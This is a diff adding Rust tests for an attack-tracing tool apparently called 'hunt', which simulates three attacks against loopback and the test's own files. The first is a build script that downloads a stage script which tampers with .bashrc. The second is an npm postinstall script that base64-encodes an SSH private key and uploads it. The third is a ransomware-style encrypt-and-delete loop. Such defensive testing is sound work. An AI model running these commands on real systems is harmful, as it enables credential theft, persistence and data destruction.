@@ -1,0 +1,105 @@
+//! `hunt` tells known chains of attack from their first cause to their extent. All of them are
+//! simulations that touch the test's own files only.
+
+use backstory_testkit::need::needs;
+use serde_json::Value;
+
+use super::Place;
+use super::hunt::{LoopbackServer, found, npm};
+
+fn names(files: &Value) -> Vec<&str> {
+    files
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|file| file.as_str().unwrap())
+        .collect()
+}
+
+#[test]
+fn a_backdoor_that_a_build_script_downloads_is_told_from_its_cause_to_its_extent() {
+    if !needs("a client", &["bash"]) {
+        return;
+    }
+    let place = Place::new();
+    let server = LoopbackServer::new(1, "echo 'alias sudo=x' >> .bashrc\ndate > marker\n");
+    let build = format!(
+        "echo building; {} > stage.sh\nsh stage.sh\n",
+        server.download()
+    );
+    place.write("build.sh", &build);
+    let run = place.record("sh build.sh");
+    server.end();
+    let all = found(&place, &run, "startup-file-written");
+    assert_eq!(all.len(), 1, "{all:?}");
+    let finding = &all[0];
+    assert_eq!(finding["cause_file"], place.path("stage.sh"));
+    assert_eq!(
+        finding["cause"]["argv"],
+        serde_json::json!(["sh", "stage.sh"])
+    );
+    let origin = finding["cause_origin"].as_str().unwrap();
+    assert!(origin.starts_with("tcp:127.0.0.1:"), "{origin}");
+    let changed = names(&finding["extent"]["changed"]);
+    assert_eq!(changed, [place.path(".bashrc"), place.path("marker")]);
+    assert_eq!(found(&place, &run, "download-run-by-shell").len(), 1);
+    let text = place.run(&["hunt", &run]).out;
+    for word in [
+        "HIGH",
+        "stage.sh",
+        "from tcp:127.0.0.1:",
+        ".bashrc",
+        "backstory of ",
+    ] {
+        assert!(text.contains(word), "no {word} in {text}");
+    }
+}
+
+#[test]
+fn a_theft_by_an_install_script_is_told_from_its_cause_to_its_extent() {
+    if !needs("a client", &["bash"]) {
+        return;
+    }
+    let place = Place::new();
+    let server = LoopbackServer::new(1, "");
+    let script = format!("cat .ssh/id_ed25519 | base64 | {}\n", server.upload());
+    npm(&place, &script);
+    let run = place.record("./npm install");
+    server.end();
+    let mut rules = Vec::new();
+    for finding in place.json(&["hunt", &run, "--json"]).as_array().unwrap() {
+        rules.push(finding["rule"].as_str().unwrap().to_owned());
+        if rules.last().unwrap() == "secret-sent" {
+            assert_eq!(
+                finding["cause_file"],
+                place.path("package/postinstall.sh"),
+                "{finding}"
+            );
+            let sent = names(&finding["extent"]["sent_to"]);
+            assert!(
+                sent.len() == 1 && sent[0].starts_with("tcp:127.0.0.1:"),
+                "{sent:?}"
+            );
+        }
+    }
+    // The most serious first.
+    assert_eq!(rules, ["install-script-reads-keys", "secret-sent"]);
+}
+
+#[test]
+fn a_storm_of_renames_is_told_from_its_cause_to_its_extent() {
+    let place = Place::new();
+    for number in 0..30 {
+        place.write(format!("doc{number}"), "mine\n");
+    }
+    place.write(
+        "lock.sh",
+        "for f in doc*; do tr a-z n-za-m < $f > $f.locked; rm $f; done; echo pay > README\n",
+    );
+    let run = place.record("sh lock.sh");
+    let all = found(&place, &run, "rename-storm");
+    assert_eq!(all.len(), 1, "{all:?}");
+    assert_eq!(all[0]["cause_file"], place.path("lock.sh"));
+    assert_eq!(names(&all[0]["extent"]["removed"]).len(), 30);
+    assert_eq!(names(&all[0]["extent"]["changed"]).len(), 31);
+}
